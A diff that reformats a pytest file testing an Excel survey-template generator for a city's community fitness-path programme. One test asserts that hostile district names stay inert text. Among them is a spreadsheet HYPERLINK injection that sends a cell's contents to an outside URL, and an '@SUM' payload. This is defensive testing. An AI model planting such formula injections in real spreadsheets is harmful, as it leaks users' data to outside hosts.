@@ -13,9 +13,9 @@ import pytest
 import shapely
 from shapely.geometry import box
 
-from geo.data.cells import xlsx_text
 from geo.cli import main
 from geo.config import BOUNDARIES_PATH
+from geo.data.cells import xlsx_text
 from geo.i18n import column_label
 from geo.intake.template import (
     INSTRUCTIONS_SHEET,
@@ -32,9 +32,24 @@ from tests.helpers import workbook_cells
 CHINESE = re.compile("[\u4e00-\u9fff]")
 
 ZH_HEADERS = [
-    "小区编号", "名称", "区县", "经度", "纬度", "坐标系", "占地面积（平方米）", "建成年份", "户数", "人口",
-    "60岁以上占比", "14岁以下占比", "可用空地（平方米）", "公共空间用于停车", "规划有体育用地",
-    "已有健身路径（套）", "申请日期", "备注",
+    "小区编号",
+    "名称",
+    "区县",
+    "经度",
+    "纬度",
+    "坐标系",
+    "占地面积（平方米）",
+    "建成年份",
+    "户数",
+    "人口",
+    "60岁以上占比",
+    "14岁以下占比",
+    "可用空地（平方米）",
+    "公共空间用于停车",
+    "规划有体育用地",
+    "已有健身路径（套）",
+    "申请日期",
+    "备注",
 ]
 
 
@@ -102,7 +117,11 @@ def test_lists_and_checks(workbook):
     assert found[letter("crs")].formula1 == '"WGS84,GCJ-02,BD-09"'
     year = found[letter("built_year")]
     assert (year.type, year.operator, year.formula1, year.formula2) == (
-        "whole", "between", "1900", str(dt.date.today().year))
+        "whole",
+        "between",
+        "1900",
+        str(dt.date.today().year),
+    )
     for column in ("share_60plus", "share_under14"):
         share = found[letter(column)]
         assert (share.type, share.operator, share.formula1, share.formula2) == ("decimal", "between", "0", "1")
@@ -140,12 +159,13 @@ def test_instructions(workbook, districts):
         assert phrase in text, phrase
     first_column = [sheet.cell(row, 1).value for row in range(1, sheet.max_row + 1)]
     table = first_column.index("列名") + 1  # one line per column under the table's header
-    assert first_column[table:table + len(ZH_HEADERS)] == ZH_HEADERS
+    assert first_column[table : table + len(ZH_HEADERS)] == ZH_HEADERS
     rows = range(table + 1, table + 1 + len(ZH_HEADERS))
     assert [sheet.cell(row, 4).value for row in rows][:3] == ["经纬度与小区编号二选一", "必填", "必填"]
     assert all(sheet.cell(row, 2).value for row in rows)  # every column has a meaning
-    header_rows = [row for row in range(1, sheet.max_row + 1)
-                   if [sheet.cell(row, col).value for col in range(1, 19)] == ZH_HEADERS]
+    header_rows = [
+        row for row in range(1, sheet.max_row + 1) if [sheet.cell(row, col).value for col in range(1, 19)] == ZH_HEADERS
+    ]
     assert len(header_rows) == 1
     example = [sheet.cell(header_rows[0] + 1, col).value for col in range(1, 19)]
     assert example[1].startswith("示例")
@@ -190,7 +210,8 @@ def test_a_long_district_list_uses_the_range_not_an_inline_list():
 def test_districts_in_another_frame_shape(tmp_path):
     districts = gpd.GeoDataFrame(
         {"district_code": ["2", "1", "1"], "district_name": ["乙区", "甲区", "甲区"]},
-        geometry=[box(0, 0, 1, 1)] * 3, crs="EPSG:4326",
+        geometry=[box(0, 0, 1, 1)] * 3,
+        crs="EPSG:4326",
     )
     workbook = openpyxl.load_workbook(write_survey_template(tmp_path / "t.xlsx", districts))
     lists = workbook["_lists"]
@@ -218,7 +239,8 @@ def hostile_districts() -> gpd.GeoDataFrame:
     names = hostile.ALL
     return gpd.GeoDataFrame(
         {"district_code": [f"45{i:04d}" for i in range(len(names))], "district_name": names},
-        geometry=[box(109 + i / 100, 24, 109.01 + i / 100, 24.01) for i in range(len(names))], crs="EPSG:4326",
+        geometry=[box(109 + i / 100, 24, 109.01 + i / 100, 24.01) for i in range(len(names))],
+        crs="EPSG:4326",
     )
 
 
@@ -228,7 +250,7 @@ def test_hostile_district_names_are_text_in_list_and_example(lang, tmp_path, cap
     # The names as the drop-down offers them: stripped, empty and repeated ones dropped.
     offered = list(dict.fromkeys(name.strip() for name in hostile.ALL if name.strip()))
     expected = [xlsx_text(name) for name in offered]
-    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")" in expected and "'@SUM(9)" in expected
+    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")' in expected and "'@SUM(9)" in expected
 
     boundaries = tmp_path / "districts.geojson"
     districts.to_file(boundaries, driver="GeoJSON")
@@ -237,8 +259,8 @@ def test_hostile_district_names_are_text_in_list_and_example(lang, tmp_path, cap
     capsys.readouterr()
     for content in (survey_template_bytes(districts, lang=lang), out.read_bytes()):
         sheets = workbook_cells(content)  # fails on any formula or error cell
-        assert [row[0] for row in sheets["_lists"][1:len(expected) + 1]] == expected
-        assert all(row[0] is None for row in sheets["_lists"][len(expected) + 1:])
+        assert [row[0] for row in sheets["_lists"][1 : len(expected) + 1]] == expected
+        assert all(row[0] is None for row in sheets["_lists"][len(expected) + 1 :])
         example = [row for row in sheets[INSTRUCTIONS_SHEET[lang]] if row[:2] == survey_headers(lang)[:2]]
         assert len(example) == 1
         instructions = sheets[INSTRUCTIONS_SHEET[lang]]
@@ -254,11 +276,18 @@ def test_city_and_programmes_come_from_the_config(districts):
 
     from geo.config import Program, load_config
 
-    other = replace(load_config(), city_name_zh="桂林市", city_name_en="Guilin", bureau_name_zh="桂林市体育局",
-                    bureau_name_en="Guilin Sports Bureau",
-                    programs=(Program("a", "甲项目", "Fund A", 100_000), Program("b", "乙项目", "Fund B", 200_000)))
-    for lang, expected in (("zh", ["桂林市小区健身路径调查表", "安排甲项目和乙项目资金"]),
-                           ("en", ["Guilin community fitness-path survey", "allocate the funds of Fund A and Fund B"])):
+    other = replace(
+        load_config(),
+        city_name_zh="桂林市",
+        city_name_en="Guilin",
+        bureau_name_zh="桂林市体育局",
+        bureau_name_en="Guilin Sports Bureau",
+        programs=(Program("a", "甲项目", "Fund A", 100_000), Program("b", "乙项目", "Fund B", 200_000)),
+    )
+    for lang, expected in (
+        ("zh", ["桂林市小区健身路径调查表", "安排甲项目和乙项目资金"]),
+        ("en", ["Guilin community fitness-path survey", "allocate the funds of Fund A and Fund B"]),
+    ):
         workbook = openpyxl.load_workbook(io.BytesIO(survey_template_bytes(districts, lang=lang, config=other)))
         text = "\n".join(str(c.value) for row in workbook.worksheets[1].iter_rows() for c in row if c.value is not None)
         for phrase in expected:
